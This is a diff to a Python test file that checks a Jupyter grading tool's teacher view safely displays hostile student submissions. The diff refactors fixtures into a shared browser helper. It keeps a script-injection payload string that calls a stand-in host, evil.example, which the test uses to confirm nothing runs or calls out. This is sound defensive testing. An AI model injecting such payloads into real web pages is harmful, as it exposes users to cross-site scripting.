@@ -1,29 +1,19 @@
 """The teacher's browser: formgrader on a submission full of tricks runs nothing and calls nobody, and an open answer is graded by hand there."""
-import contextlib
 import os
 import re
-import shutil
-import signal
-import socket
-import subprocess
-import sys
-import time
-import urllib.request
 
 import nbformat
 import pytest
-from playwright.sync_api import expect, sync_playwright
+from playwright.sync_api import expect
 
 from grader.jail import doctor
-from grader.tests import course
+from grader.tests import browser, course
 from grader.tests.attacks import LESSON
+from grader.tests.browser import SECONDS
 from grader.tests.test_rebuild import EVIL
 
 WALLS = doctor.walls()
-CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
-pytestmark = [pytest.mark.skipif(not WALLS.ok, reason=f"no walls on this machine: {WALLS.why}"),
-              pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium: apt install chromium")]
-SECONDS = 60        # the longest that anything may take on a busy machine
+pytestmark = pytest.mark.skipif(not WALLS.ok, reason=f"no walls on this machine: {WALLS.why}")
 OPEN = "lower_loss_fewer_right"
 
 PWN = "window.pwned = 1; fetch('http://evil.example/')"
@@ -71,47 +61,15 @@ def folder(tmp_path_factory):
 @pytest.fixture(scope="module")
 def server(folder, tmp_path_factory):
     """A Jupyter server with nbgrader's extensions in the course's folder, as a teacher starts it: its address."""
-    home = tmp_path_factory.mktemp("home")
-    with socket.socket() as free:
-        free.bind(("127.0.0.1", 0))
-        port = free.getsockname()[1]
-    environment = {k: v for k, v in os.environ.items() if not k.startswith(("JUPYTER", "JPY", "NBGRADER", "PYTEST"))}
-    with (home / "server.log").open("w") as log:
-        process = subprocess.Popen(
-            [sys.executable, "-m", "jupyter", "server", "--allow-root", "--ServerApp.open_browser=False", "--ip=127.0.0.1", f"--port={port}", "--ServerApp.port_retries=0",
-             "--IdentityProvider.token="], cwd=folder, stdout=log, stderr=log, start_new_session=True,
-            env=environment | {"HOME": str(home), "PATH": f"{course.BIN}:{os.environ['PATH']}"})
-    address = f"http://127.0.0.1:{port}"
-    try:
-        for _ in range(SECONDS * 5):
-            with contextlib.suppress(OSError):
-                urllib.request.urlopen(f"{address}/api", timeout=5)
-                break
-            assert process.poll() is None, (home / "server.log").read_text()
-            time.sleep(0.2)
-        else:
-            pytest.fail((home / "server.log").read_text())
-        yield address
-    finally:
-        for how in (signal.SIGTERM, signal.SIGKILL):
-            with contextlib.suppress(ProcessLookupError, subprocess.TimeoutExpired):
-                os.killpg(process.pid, how)
-                process.wait(20)
-
-
-@pytest.fixture(scope="module")
-def browser():
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[
-            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"])
-        yield browser
-        browser.close()
+    command = ["jupyter", "server", "--allow-root", "--ServerApp.open_browser=False", "--ip=127.0.0.1", "--ServerApp.port_retries=0", "--IdentityProvider.token="]
+    with browser.serving(command, folder, tmp_path_factory.mktemp("home"), r"http://127\.0\.0\.1:\d+(?=/)", PATH=f"{course.BIN}:{os.environ['PATH']}") as found:
+        yield found[0]
 
 
 @pytest.fixture
-def page(browser):
+def page(chromium):
     """A page that notes whom it calls, and what it is asked. Nothing leaves this machine."""
-    context = browser.new_context(viewport={"width": 1200, "height": 900})
+    context = chromium.new_context(viewport={"width": 1200, "height": 900})
     page = context.new_page()
     page.called, page.asked = set(), []
     page.on("request", lambda r: page.called.add(r.url))
